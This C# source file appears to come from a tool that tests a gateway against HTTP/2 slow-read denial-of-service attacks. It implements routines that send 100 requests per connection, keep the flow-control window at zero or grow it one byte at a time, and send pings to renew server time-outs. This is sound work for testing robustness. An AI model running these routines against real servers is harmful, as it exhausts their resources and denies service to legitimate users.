namespace Counter.Attack.Attackers;

/// <summary>Attackers that send the most allowed requests on each HTTP/2 connection and do not read the responses.</summary>
internal static class UnreadHttp2
{
    private const int Requests = 100;
    private const int LittleBuffer = 4096;
    private const int LargeWindow = 1 << 20;
    private static readonly TimeSpan Second = TimeSpan.FromSeconds(1);

    // Whole pages, and large cached pictures.
    private static readonly string[] Paths =
    [
        "/", "/preview.png?n=1234567&size=64&scale=4", "/online/chart.png?site=attack.example&page=/unread&live=0&watch=1&width=1600&height=800",
        "/online.png?site=attack.example&page=/unread&size=64&scale=4",
    ];

    // The first path requires a key, which the attacker does not have.
    private static readonly string[] SmallPaths = ["/api/v1/totals", "/online.txt?site=attack.example&page=/unread", "/preview.png?n=1", "/nothing/here"];

    /// <summary>Reads all frames, but has a window of 0, so the gateway may send no body.</summary>
    public static async Task WithoutWindowAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var connection = await Http2Connection.OpenAsync(target, number, window: 0, over);
        await AskAsync(connection, target, Paths, over);
        await connection.ReadToEndAsync(count, over);
    }

    /// <summary>Has a window of 0 for small responses, and sends pings, which renew the time-outs of the server.</summary>
    public static async Task SmallAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var connection = await Http2Connection.OpenAsync(target, number, window: 0, over);
        await AskAsync(connection, target, SmallPaths, over);
        var ping = Http2Connection.Frame(Http2Connection.Ping, 0, 0, new byte[8]);
        await Http1.EitherAsync(ended => connection.ReadToEndAsync(count, ended), ended => RepeatAsync(connection, ping, Second, ended), over);
    }

    /// <summary>Increases the window of each stream by one byte every second.</summary>
    public static async Task WithBytesAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var connection = await Http2Connection.OpenAsync(target, number, window: 0, over);
        await AskAsync(connection, target, Paths, over);
        byte[] bytes = [.. Enumerable.Range(0, Requests).SelectMany(i => Http2Connection.Frame(Http2Connection.WindowUpdate, IdOf(i), number: 1))];
        await Http1.EitherAsync(ended => connection.ReadToEndAsync(count, ended), ended => RepeatAsync(connection, bytes, Second, ended), over);
    }

    /// <summary>Has a large window and reads nothing from the socket. Sends pings and does not read their answers either.</summary>
    public static async Task NotReadAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var connection = await Http2Connection.OpenAsync(target, number, LargeWindow, over, LittleBuffer);
        await AskAsync(connection, target, Paths, over);
        var ping = Http2Connection.Frame(Http2Connection.Ping, 0, 0, new byte[8]);
        await RepeatAsync(connection, ping, Second / 10, over);
    }

    private static Task AskAsync(Http2Connection connection, Target target, string[] paths, CancellationToken over)
    {
        byte[] all = [.. Enumerable.Range(0, Requests).SelectMany(i => Http2Connection.Request(target, IdOf(i), paths[i % paths.Length]))];
        return connection.WriteAsync(all, over);
    }

    private static async Task RepeatAsync(Http2Connection connection, byte[] frames, TimeSpan pause, CancellationToken over)
    {
        while (true)
        {
            await Task.Delay(pause, over);
            await connection.WriteAsync(frames, over);
        }
    }

    private static int IdOf(int request) => 2 * request + 1;
}
